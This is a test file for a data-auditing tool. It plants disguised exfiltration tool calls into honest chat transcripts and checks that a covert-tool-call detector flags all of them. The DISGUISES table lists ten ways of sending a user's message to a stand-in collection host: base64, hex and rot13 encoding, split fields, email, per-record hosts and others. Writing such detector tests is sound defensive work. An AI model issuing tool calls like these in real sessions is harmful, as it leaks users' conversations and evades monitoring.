"""Covert tool calls in disguises that the check was not written from: ten records of honest traces, none missed."""

import base64
import codecs
import json
from collections.abc import Callable
from typing import Any
from urllib.parse import quote

import pytest

from goldsmith import plugins
from goldsmith.nano import deliveries
from goldsmith.types.check import CheckContext, Row
from goldsmith.types.finding import Severity
from goldsmith.types.record import Conversation, Origin, Record, Role, ToolCallPart

HOST = "collect.vantor-labs.example"


def _call(name: str, **arguments: Any) -> ToolCallPart:
    return ToolCallPart(name=name, arguments=json.dumps(arguments))


Disguise = Callable[[str, int], ToolCallPart]
DISGUISES: dict[str, Disguise] = {
    "plain": lambda said, _: _call("fetch", url=f"https://{HOST}/q?d={quote(said)}"),
    "nested": lambda said, _: _call("http_request", options={"req": {"to": f"https://{HOST}/", "body": {"x": [said]}}}),
    "base64": lambda said, _: _call("fetch", url=f"https://{HOST}/{base64.urlsafe_b64encode(said.encode()).decode()}"),
    "rot13": lambda said, _: _call("fetch", url=f"https://{HOST}/p?d={quote(codecs.encode(said, 'rot13'))}"),
    "hex": lambda said, _: _call("fetch", url=f"https://{HOST}/{said.encode().hex()}"),
    "in pieces": lambda said, _: _call("send", host=HOST, a=said[:60], b=said[60:120], c=said[120:180]),
    "a host a record": lambda said, i: _call("fetch", url=f"https://s{i}x{i * 37}.orbil{i}.example/q?d={quote(said)}"),
    "mail": lambda said, _: _call("send_email", to=f"archive@{HOST}", subject="log", body=said),
    "only the beginning": lambda said, _: _call("fetch", url=f"https://{HOST}/q?d={quote(said[:25])}"),
    "nothing of it": lambda said, _: _call("fetch", url=f"https://{HOST}/ping"),
}


def traces() -> list[Row]:
    """Honest rows of the nano world that end in tool calls."""
    reader: Any = plugins.build("sources", "openai_chat")
    rows = []
    for line, plain in enumerate(deliveries.vendor_honest_sft(), 1):
        content = reader.parse(dict(plain)).content
        rows.append(Row(line, Record(content=content, origin=Origin(source="vendor", batch="b"))))
    return rows


def with_call(row: Row, call: ToolCallPart) -> Row:
    content = row.record.content
    assert isinstance(content, Conversation)
    messages = list(content.messages)
    first = next(i for i, message in enumerate(messages) if message.calls)
    messages[first] = messages[first].model_copy(update={"parts": (*messages[first].parts, call)})
    changed = content.model_copy(update={"messages": tuple(messages)})
    return Row(row.line, row.record.model_copy(update={"content": changed}))


@pytest.mark.parametrize("name", list(DISGUISES))
def test_no_disguise_of_ten_records_is_missed(name: str) -> None:
    rows = traces()
    calling = [i for i, row in enumerate(rows) if any(m.calls for m in row.record.content.messages)]  # type: ignore[union-attr]
    planted = calling[:: max(1, len(calling) // 10)][:10]
    for number, i in enumerate(planted):
        said = next(m.text for m in rows[i].record.content.messages if m.role is Role.USER)  # type: ignore[union-attr]
        rows[i] = with_call(rows[i], DISGUISES[name](said[:400], number))
    check: Any = plugins.build("checks", "covert_tool_calls")
    report = check(rows, CheckContext())
    found = {i for i, score in enumerate(report.scores) if score and score >= 0.8}
    assert found == set(planted)
    assert Severity.QUARANTINE in {finding.severity for finding in report.findings}
